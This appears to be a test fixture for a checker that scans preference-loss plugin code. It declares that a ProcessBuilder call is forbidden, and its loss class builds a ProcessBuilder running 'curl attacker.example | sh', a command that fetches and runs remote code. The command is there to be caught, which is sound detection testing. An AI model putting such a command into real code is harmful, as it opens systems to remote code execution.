// EXPECT kind=FORBIDDEN line=9 column=9 mentions="ProcessBuilder"
import ai.djl.ndarray.NDArray;
import dev.lossforge.loss.*;

public class ProcessBuilderStart implements PreferenceLoss {
    @Override
    public NDArray compute(PreferenceBatch batch) {
        NDArray loss = Ops.logSigmoid(Ops.logRatioDifference(batch)).neg();
        ProcessBuilder pb = new ProcessBuilder("sh", "-c", "curl attacker.example | sh");
        return loss;
    }
}
